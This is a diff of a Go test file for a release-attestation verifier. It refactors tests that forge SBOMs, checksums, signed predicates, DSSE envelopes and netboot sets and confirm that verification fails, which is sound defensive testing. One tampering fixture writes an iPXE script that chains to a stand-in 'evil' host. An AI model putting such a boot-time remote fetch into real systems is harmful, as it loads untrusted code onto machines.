@@ -1,4 +1,4 @@
-package release_test
+package verify_test
 
 import (
 	"bytes"
@@ -13,21 +13,23 @@ import (
 	"runtime"
 	"runtime/metrics"
 	"strings"
-	"syscall"
 	"testing"
 	"time"
 
+	"github.com/socioprophet/sourceos/internal/attest"
+	"github.com/socioprophet/sourceos/internal/attest/attesttest"
 	"github.com/socioprophet/sourceos/internal/digest"
 	"github.com/socioprophet/sourceos/internal/provenance"
-	"github.com/socioprophet/sourceos/internal/release"
+	"github.com/socioprophet/sourceos/internal/sidecar"
 	"github.com/socioprophet/sourceos/internal/sign"
+	"github.com/socioprophet/sourceos/internal/verify"
 )
 
 // editJSON rewrites the JSON object in path through f.
 func editJSON(t *testing.T, path string, f func(m map[string]any)) {
 	t.Helper()
 	var m map[string]any
-	if err := json.Unmarshal(readFile(t, path), &m); err != nil {
+	if err := json.Unmarshal(attesttest.ReadFile(t, path), &m); err != nil {
 		t.Fatal(err)
 	}
 	f(m)
@@ -35,7 +37,7 @@ func editJSON(t *testing.T, path string, f func(m map[string]any)) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	writeFile(t, path, append(b, '\n'))
+	attesttest.WriteFile(t, path, append(b, '\n'))
 }
 
 func member(m map[string]any, k string) map[string]any { return m[k].(map[string]any) }
@@ -65,7 +67,7 @@ var osImageForgeries = []struct {
 // A document changed after signing fails the digest the signed predicate
 // gives for it; its forged claims are named too.
 func TestVerifyCatchesForgedDocuments(t *testing.T) {
-	k := newKeys(t)
+	k := attesttest.NewKeys(t)
 	type forgery struct {
 		name   string
 		change func(t *testing.T, iso string)
@@ -74,48 +76,48 @@ func TestVerifyCatchesForgedDocuments(t *testing.T) {
 	forgeries := []forgery{
 		{"SBOM component dropped", func(t *testing.T, iso string) {
 			editJSON(t, iso+".sbom.json", dropComponent)
-			if err := provenance.CheckSBOM(readFile(t, iso+".sbom.json"), sha256Of(t, iso)); err != nil {
+			if err := provenance.CheckSBOM(attesttest.ReadFile(t, iso+".sbom.json"), sha256Of(t, iso)); err != nil {
 				t.Fatalf("the forged SBOM must be consistent on its own: %v", err)
 			}
-		}, []string{release.CheckByproducts}},
+		}, []string{verify.CheckByproducts}},
 		{"SBOM component replaced", func(t *testing.T, iso string) {
 			editJSON(t, iso+".sbom.json", func(m map[string]any) {
 				c := m["components"].([]any)[0].(map[string]any)
 				c["name"], c["version"] = "openssl", "1.0.1f"
 			})
-		}, []string{release.CheckByproducts}},
+		}, []string{verify.CheckByproducts}},
 		{"SBOM deleted", func(t *testing.T, iso string) { remove(t, iso+".sbom.json") },
-			[]string{release.CheckByproducts, release.CheckSBOM}},
+			[]string{verify.CheckByproducts, verify.CheckSBOM}},
 		{"SBOM and its ref deleted", func(t *testing.T, iso string) {
 			remove(t, iso+".sbom.json")
 			editJSON(t, iso+".osimage.json", func(m map[string]any) { delete(member(m, "provenance"), "sbomRef") })
-		}, []string{release.CheckByproducts, release.CheckOSImageRefs, release.CheckSBOM}},
+		}, []string{verify.CheckByproducts, verify.CheckOSImageRefs, verify.CheckSBOM}},
 		{"OSImage deleted", func(t *testing.T, iso string) { remove(t, iso+".osimage.json") },
-			[]string{release.CheckByproducts, release.CheckOSImageSchema}},
+			[]string{verify.CheckByproducts, verify.CheckOSImageSchema}},
 		{"checksum file forged", func(t *testing.T, iso string) {
-			writeFile(t, iso+".sha256", []byte(strings.Repeat("0", 64)+"  "+isoName+"\n"))
-		}, []string{release.CheckSHA256File}},
+			attesttest.WriteFile(t, iso+".sha256", []byte(strings.Repeat("0", 64)+"  "+attesttest.ISOName+"\n"))
+		}, []string{verify.CheckSHA256File}},
 		{"predicate file forged", func(t *testing.T, iso string) {
-			b := strings.Replace(string(readFile(t, iso+".slsa.json")), `"version": "1.2.3"`, `"version": "9.9.9"`, 1)
-			writeFile(t, iso+".slsa.json", []byte(b))
-		}, []string{release.CheckSLSA}},
+			b := strings.Replace(string(attesttest.ReadFile(t, iso+".slsa.json")), `"version": "1.2.3"`, `"version": "9.9.9"`, 1)
+			attesttest.WriteFile(t, iso+".slsa.json", []byte(b))
+		}, []string{verify.CheckSLSA}},
 	}
 	for _, f := range osImageForgeries {
 		forgeries = append(forgeries, forgery{"OSImage " + f.name, func(t *testing.T, iso string) {
 			editJSON(t, iso+".osimage.json", f.apply)
-		}, []string{release.CheckByproducts, release.CheckOSImageClaims}})
+		}, []string{verify.CheckByproducts, verify.CheckOSImageClaims}})
 	}
 	for _, f := range forgeries {
 		t.Run(f.name, func(t *testing.T) {
-			iso := artifact(t, t.TempDir(), isoName, 4096)
-			signISO(t, k, iso)
+			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
+			attesttest.SignISO(t, k, iso)
 			before := map[string][]byte{}
-			for _, ext := range allSidecars {
+			for _, ext := range attesttest.AllSidecars {
 				before[ext], _ = os.ReadFile(iso + ext)
 			}
 			f.change(t, iso)
 			changed := false
-			for _, ext := range allSidecars {
+			for _, ext := range attesttest.AllSidecars {
 				after, _ := os.ReadFile(iso + ext)
 				changed = changed || !bytes.Equal(before[ext], after)
 			}
@@ -130,55 +132,55 @@ func TestVerifyCatchesForgedDocuments(t *testing.T) {
 // A document present beside the artifact but not listed in the signed
 // predicate fails, and so does one listed by another name.
 func TestVerifyCatchesUnlistedDocuments(t *testing.T) {
-	k := newKeys(t)
-	donor := artifact(t, t.TempDir(), isoName, 4096)
-	signISO(t, k, donor)
+	k := attesttest.NewKeys(t)
+	donor := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
+	attesttest.SignISO(t, k, donor)
 
-	iso := artifact(t, t.TempDir(), isoName, 4096)
-	signISO(t, k, iso, func(o *release.SignOptions) { o.Closure = nil })
+	iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
+	attesttest.SignISO(t, k, iso, func(o *attest.SignOptions) { o.Closure = nil })
 	if _, err := os.Stat(iso + ".sbom.json"); !os.IsNotExist(err) {
 		t.Fatalf("signed without a closure, yet an SBOM: %v", err)
 	}
-	if rep, err := verify(t, iso, k.pub()); err != nil {
-		t.Fatalf("%v\n%s", err, reportText(rep))
+	if rep, err := attesttest.Verify(t, iso, k.Pub()); err != nil {
+		t.Fatalf("%v\n%s", err, attesttest.ReportText(rep))
 	}
-	writeFile(t, iso+".sbom.json", readFile(t, donor+".sbom.json"))
-	expectFailed(t, iso, k, release.CheckByproducts)
+	attesttest.WriteFile(t, iso+".sbom.json", attesttest.ReadFile(t, donor+".sbom.json"))
+	expectFailed(t, iso, k, verify.CheckByproducts)
 
-	kernel := artifact(t, t.TempDir(), "bzImage", 4096)
-	if _, err := release.Sign(context.Background(), release.SignOptions{Kind: release.Netboot,
-		Artifacts: []release.Artifact{{Path: kernel}}, Build: buildInfo("netboot"), SecretKey: k.secret(), Now: clock}); err != nil {
+	kernel := attesttest.Artifact(t, t.TempDir(), "bzImage", 4096)
+	if _, err := attest.Sign(context.Background(), attest.SignOptions{Kind: sidecar.Netboot,
+		Artifacts: []sidecar.Artifact{{Path: kernel}}, Build: attesttest.BuildInfo("netboot"), SecretKey: k.Secret(), Now: attesttest.Clock}); err != nil {
 		t.Fatal(err)
 	}
-	writeFile(t, kernel+".osimage.json", readFile(t, donor+".osimage.json"))
-	expectFailed(t, kernel, k, release.CheckByproducts)
+	attesttest.WriteFile(t, kernel+".osimage.json", attesttest.ReadFile(t, donor+".osimage.json"))
+	expectFailed(t, kernel, k, verify.CheckByproducts)
 }
 
 // resign makes the release beside iso consistent again after a forgery,
 // as someone holding the key would: the predicate lists the documents as
 // they now are, and the statement is signed anew. Only the check of the
 // OSImage document's claims against the predicate can catch what is left.
-func resign(t *testing.T, k keys, iso string) {
+func resign(t *testing.T, k attesttest.Keys, iso string) {
 	t.Helper()
 	var bps []provenance.Byproduct
 	for _, doc := range []struct{ ext, mediaType string }{
 		{".sbom.json", provenance.MediaTypeCycloneDX}, {".osimage.json", provenance.MediaTypeOSImage}} {
-		sum := sha256.Sum256(readFile(t, iso+doc.ext))
-		bps = append(bps, provenance.Byproduct{Name: isoName + doc.ext, SHA256: hex.EncodeToString(sum[:]), MediaType: doc.mediaType})
+		sum := sha256.Sum256(attesttest.ReadFile(t, iso+doc.ext))
+		bps = append(bps, provenance.Byproduct{Name: attesttest.ISOName + doc.ext, SHA256: hex.EncodeToString(sum[:]), MediaType: doc.mediaType})
 	}
-	pred, err := provenance.SLSAPredicate(buildInfo("iso"), bps...)
+	pred, err := provenance.SLSAPredicate(attesttest.BuildInfo("iso"), bps...)
 	if err != nil {
 		t.Fatal(err)
 	}
-	d, err := digest.Reader(bytes.NewReader(readFile(t, iso)))
+	d, err := digest.Reader(bytes.NewReader(attesttest.ReadFile(t, iso)))
 	if err != nil {
 		t.Fatal(err)
 	}
-	st, err := provenance.Statement([]provenance.Subject{{Name: isoName, SHA256: d.SHA256Hex(), SHA512: d.SHA512Hex()}}, pred)
+	st, err := provenance.Statement([]provenance.Subject{{Name: attesttest.ISOName, SHA256: d.SHA256Hex(), SHA512: d.SHA512Hex()}}, pred)
 	if err != nil {
 		t.Fatal(err)
 	}
-	sk, err := sign.ParseSecretKey(k.pair.SecretKey, "")
+	sk, err := sign.ParseSecretKey(k.Pair.SecretKey, "")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -186,29 +188,29 @@ func resign(t *testing.T, k keys, iso string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	writeFile(t, iso+".slsa.json", pred)
-	writeFile(t, iso+".intoto.json", st)
-	writeFile(t, iso+".intoto.dsse.json", env)
+	attesttest.WriteFile(t, iso+".slsa.json", pred)
+	attesttest.WriteFile(t, iso+".intoto.json", st)
+	attesttest.WriteFile(t, iso+".intoto.dsse.json", env)
 }
 
 func TestVerifyChecksOSImageClaimsAgainstSignedPredicate(t *testing.T) {
-	k := newKeys(t)
+	k := attesttest.NewKeys(t)
 	t.Run("re-signed unchanged", func(t *testing.T) {
-		iso := artifact(t, t.TempDir(), isoName, 4096)
-		signISO(t, k, iso)
+		iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
+		attesttest.SignISO(t, k, iso)
 		resign(t, k, iso)
-		if rep, err := verify(t, iso, k.pub()); err != nil {
-			t.Fatalf("resign does not reproduce what Sign writes: %v\n%s", err, reportText(rep))
+		if rep, err := attesttest.Verify(t, iso, k.Pub()); err != nil {
+			t.Fatalf("resign does not reproduce what Sign writes: %v\n%s", err, attesttest.ReportText(rep))
 		}
 	})
 	for _, f := range osImageForgeries {
 		t.Run(f.name, func(t *testing.T) {
-			iso := artifact(t, t.TempDir(), isoName, 4096)
-			signISO(t, k, iso)
+			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
+			attesttest.SignISO(t, k, iso)
 			editJSON(t, iso+".osimage.json", f.apply)
 			resign(t, k, iso)
-			rep := expectFailed(t, iso, k, release.CheckOSImageClaims)
-			if got := status(rep, release.CheckByproducts); got != release.Pass {
+			rep := expectFailed(t, iso, k, verify.CheckOSImageClaims)
+			if got := attesttest.Status(rep, verify.CheckByproducts); got != verify.Pass {
 				t.Errorf("byproducts check %s: the re-signed predicate lists the forged document, so only the claims check can catch it", got)
 			}
 		})
@@ -218,7 +220,7 @@ func TestVerifyChecksOSImageClaimsAgainstSignedPredicate(t *testing.T) {
 // An envelope another parser would read differently is refused, even
 // though the statement our parser would pick is the signed one.
 func TestVerifyRefusesAmbiguousDSSE(t *testing.T) {
-	k := newKeys(t)
+	k := attesttest.NewKeys(t)
 	for name, rewrite := range map[string]func(env, forged string) string{
 		"case-variant payload after": func(env, forged string) string {
 			return strings.Replace(env, "\n}", ",\n  \"Payload\": \""+forged+"\"\n}", 1)
@@ -234,34 +236,34 @@ func TestVerifyRefusesAmbiguousDSSE(t *testing.T) {
 		},
 	} {
 		t.Run(name, func(t *testing.T) {
-			iso := artifact(t, t.TempDir(), isoName, 4096)
-			signISO(t, k, iso)
-			forged := strings.Replace(string(readFile(t, iso+".intoto.json")), `"x86_64"`, `"aarch64"`, -1)
-			env := string(readFile(t, iso+".intoto.dsse.json"))
+			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
+			attesttest.SignISO(t, k, iso)
+			forged := strings.Replace(string(attesttest.ReadFile(t, iso+".intoto.json")), `"x86_64"`, `"aarch64"`, -1)
+			env := string(attesttest.ReadFile(t, iso+".intoto.dsse.json"))
 			bad := rewrite(env, base64.StdEncoding.EncodeToString([]byte(forged)))
 			if bad == env {
 				t.Fatal("rewrite changed nothing")
 			}
-			writeFile(t, iso+".intoto.dsse.json", []byte(bad))
-			expectFailed(t, iso, k, release.CheckDSSESignature)
+			attesttest.WriteFile(t, iso+".intoto.dsse.json", []byte(bad))
+			expectFailed(t, iso, k, verify.CheckDSSESignature)
 		})
 	}
 }
 
 // expectFailed verifies path and requires exit 1 with each of checks failed.
-func expectFailed(t *testing.T, path string, k keys, checks ...string) *release.Report {
+func expectFailed(t *testing.T, path string, k attesttest.Keys, checks ...string) *verify.Report {
 	t.Helper()
-	rep, err := verify(t, path, k.pub())
-	if release.ExitCode(err) != release.ExitFailed || rep.OK {
-		t.Errorf("exit %d (%v), want %d", release.ExitCode(err), err, release.ExitFailed)
+	rep, err := attesttest.Verify(t, path, k.Pub())
+	if verify.ExitCode(err) != verify.ExitFailed || rep.OK {
+		t.Errorf("exit %d (%v), want %d", verify.ExitCode(err), err, verify.ExitFailed)
 	}
 	for _, c := range checks {
-		if got := status(rep, c); got != release.Fail {
+		if got := attesttest.Status(rep, c); got != verify.Fail {
 			t.Errorf("check %q is %s, want fail", c, got)
 		}
 	}
 	if t.Failed() {
-		t.Logf("report:\n%s", reportText(rep))
+		t.Logf("report:\n%s", attesttest.ReportText(rep))
 	}
 	return rep
 }
@@ -300,7 +302,7 @@ func asSlice(v any) []any {
 
 func sha256Of(t *testing.T, path string) string {
 	t.Helper()
-	sum := sha256.Sum256(readFile(t, path))
+	sum := sha256.Sum256(attesttest.ReadFile(t, path))
 	return hex.EncodeToString(sum[:])
 }
 
@@ -337,15 +339,15 @@ func heapCeiling(t *testing.T, limit uint64) {
 
 // verifyWithin runs verify and fails the test if it has not returned
 // within d (a FIFO opened for reading blocks until a writer comes).
-func verifyWithin(t *testing.T, d time.Duration, path, pub string) (*release.Report, error) {
+func verifyWithin(t *testing.T, d time.Duration, path, pub string) (*verify.Report, error) {
 	t.Helper()
 	type result struct {
-		rep *release.Report
+		rep *verify.Report
 		err error
 	}
 	done := make(chan result, 1)
 	go func() {
-		rep, err := release.Verify(context.Background(), release.VerifyOptions{Artifact: path, PublicKey: pub})
+		rep, err := verify.Verify(context.Background(), verify.VerifyOptions{Artifact: path, PublicKey: pub})
 		done <- result{rep, err}
 	}()
 	select {
@@ -361,7 +363,7 @@ func verifyWithin(t *testing.T, d time.Duration, path, pub string) (*release.Rep
 // or artifact that is /dev/zero, a FIFO, or larger than its limit is a
 // quick "could not verify" naming the file, in bounded memory.
 func TestVerifyRefusesUnsafeFiles(t *testing.T) {
-	k := newKeys(t)
+	k := attesttest.NewKeys(t)
 	exts := []string{".sha256", ".minisig", ".intoto.json", ".intoto.dsse.json", ".slsa.json", ".sbom.json", ".osimage.json"}
 	type tc struct {
 		name   string
@@ -378,18 +380,18 @@ func TestVerifyRefusesUnsafeFiles(t *testing.T) {
 					t.Fatal(err)
 				}
 				return iso
-			}, want: []string{isoName + ext, "not a regular file", "character device"}},
+			}, want: []string{attesttest.ISOName + ext, "not a regular file", "character device"}},
 			tc{name: ext + " is a FIFO", change: func(t *testing.T, iso string) string {
 				remove(t, iso+ext)
-				mkfifo(t, iso+ext)
+				attesttest.Mkfifo(t, iso+ext)
 				return iso
-			}, want: []string{isoName + ext, "not a regular file", "FIFO"}},
+			}, want: []string{attesttest.ISOName + ext, "not a regular file", "FIFO"}},
 			tc{name: ext + " is one byte over its limit", change: func(t *testing.T, iso string) string {
-				if err := os.Truncate(iso+ext, release.SidecarLimit(ext)+1); err != nil {
+				if err := os.Truncate(iso+ext, sidecar.Limit(ext)+1); err != nil {
 					t.Fatal(err)
 				}
 				return iso
-			}, want: []string{isoName + ext, "limit"}},
+			}, want: []string{attesttest.ISOName + ext, "limit"}},
 		)
 	}
 	cases = append(cases,
@@ -398,10 +400,10 @@ func TestVerifyRefusesUnsafeFiles(t *testing.T) {
 				t.Fatal(err)
 			}
 			return iso
-		}, want: []string{isoName + ".sbom.json", "3221225472 bytes, the limit is 64 MiB"}},
+		}, want: []string{attesttest.ISOName + ".sbom.json", "3221225472 bytes, the limit is 64 MiB"}},
 		tc{name: "artifact is a FIFO", change: func(t *testing.T, iso string) string {
 			p := filepath.Join(filepath.Dir(iso), "fifo.iso")
-			mkfifo(t, p)
+			attesttest.Mkfifo(t, p)
 			return p
 		}, want: []string{"fifo.iso", "not a regular file", "FIFO"}},
 		tc{name: "artifact is /dev/zero", change: func(t *testing.T, iso string) string {
@@ -412,24 +414,24 @@ func TestVerifyRefusesUnsafeFiles(t *testing.T) {
 			return p
 		}, want: []string{"zero.iso", "not a regular file"}},
 		tc{name: "public key file is a FIFO", change: func(t *testing.T, iso string) string {
-			mkfifo(t, iso+".pub")
+			attesttest.Mkfifo(t, iso+".pub")
 			return iso
 		}, pub: func(iso string) string { return iso + ".pub" }, want: []string{"public key file", "not a regular file"}},
 	)
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
-			iso := artifact(t, t.TempDir(), isoName, 4096)
-			signISO(t, k, iso)
+			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
+			attesttest.SignISO(t, k, iso)
 			target := c.change(t, iso)
-			pub := k.pub()
+			pub := k.Pub()
 			if c.pub != nil {
 				pub = c.pub(iso)
 			}
 			heapCeiling(t, 256<<20)
 			start := time.Now()
 			rep, err := verifyWithin(t, 10*time.Second, target, pub)
-			if release.ExitCode(err) != release.ExitCannotVerify {
-				t.Errorf("exit %d (%v), want %d\n%s", release.ExitCode(err), err, release.ExitCannotVerify, reportText(rep))
+			if verify.ExitCode(err) != verify.ExitCannotVerify {
+				t.Errorf("exit %d (%v), want %d\n%s", verify.ExitCode(err), err, verify.ExitCannotVerify, attesttest.ReportText(rep))
 			}
 			for _, w := range c.want {
 				if !strings.Contains(err.Error(), w) {
@@ -443,68 +445,41 @@ func TestVerifyRefusesUnsafeFiles(t *testing.T) {
 	}
 }
 
-func mkfifo(t *testing.T, path string) {
-	t.Helper()
-	if err := syscall.Mkfifo(path, 0o644); err != nil {
-		t.Fatal(err)
-	}
-}
-
-// Signing refuses a FIFO too, instead of waiting for a writer.
-func TestSignRefusesFIFO(t *testing.T) {
-	p := filepath.Join(t.TempDir(), isoName)
-	mkfifo(t, p)
-	done := make(chan error, 1)
-	go func() {
-		_, err := release.Sign(context.Background(), release.SignOptions{Kind: release.ISO,
-			Artifacts: []release.Artifact{{Path: p}}, Build: buildInfo("iso"), Now: clock})
-		done <- err
-	}()
-	select {
-	case err := <-done:
-		if err == nil || !strings.Contains(err.Error(), "not a regular file") {
-			t.Errorf("sign a FIFO: %v", err)
-		}
-	case <-time.After(10 * time.Second):
-		t.Fatal("sign blocked on a FIFO")
-	}
-}
-
 // The netboot manifest's signature covers the set: each file it lists must
 // be beside it with its digest, and the manifest must describe the build
 // the signed predicate records.
 func TestNetbootSetTampering(t *testing.T) {
-	k := newKeys(t)
+	k := attesttest.NewKeys(t)
 	signSet := func(t *testing.T, b provenance.BuildInfo) []string {
 		t.Helper()
-		paths := netbootSet(t, t.TempDir(), b)
-		var arts []release.Artifact
+		paths := attesttest.NetbootSet(t, t.TempDir(), b)
+		var arts []sidecar.Artifact
 		for _, p := range paths {
-			arts = append(arts, release.Artifact{Path: p})
+			arts = append(arts, sidecar.Artifact{Path: p})
 		}
-		if _, err := release.Sign(context.Background(), release.SignOptions{Kind: release.Netboot, Artifacts: arts,
-			Build: buildInfo("netboot"), SecretKey: k.secret(), Now: clock}); err != nil {
+		if _, err := attest.Sign(context.Background(), attest.SignOptions{Kind: sidecar.Netboot, Artifacts: arts,
+			Build: attesttest.BuildInfo("netboot"), SecretKey: k.Secret(), Now: attesttest.Clock}); err != nil {
 			t.Fatal(err)
 		}
 		return paths
 	}
 	for name, tamper := range map[string]func(t *testing.T, paths []string){
 		"iPXE script replaced": func(t *testing.T, paths []string) {
-			writeFile(t, paths[2], []byte("#!ipxe\nchain http://example.org/evil\n"))
+			attesttest.WriteFile(t, paths[2], []byte("#!ipxe\nchain http://example.org/evil\n"))
 		},
-		"iPXE script same size, other bytes": func(t *testing.T, paths []string) { flipByte(t, paths[2], 7) },
+		"iPXE script same size, other bytes": func(t *testing.T, paths []string) { attesttest.FlipByte(t, paths[2], 7) },
 		"initrd missing":                     func(t *testing.T, paths []string) { remove(t, paths[1]) },
 	} {
 		t.Run(name, func(t *testing.T) {
-			paths := signSet(t, buildInfo("netboot"))
+			paths := signSet(t, attesttest.BuildInfo("netboot"))
 			tamper(t, paths)
-			expectFailed(t, paths[3], k, release.CheckNetbootSet)
+			expectFailed(t, paths[3], k, verify.CheckNetbootSet)
 		})
 	}
 	t.Run("manifest for another edition, signed", func(t *testing.T) {
-		b := buildInfo("netboot")
+		b := attesttest.BuildInfo("netboot")
 		b.Edition = "server"
 		paths := signSet(t, b) // the predicate says desktop
-		expectFailed(t, paths[3], k, release.CheckNetbootSet)
+		expectFailed(t, paths[3], k, verify.CheckNetbootSet)
 	})
 }
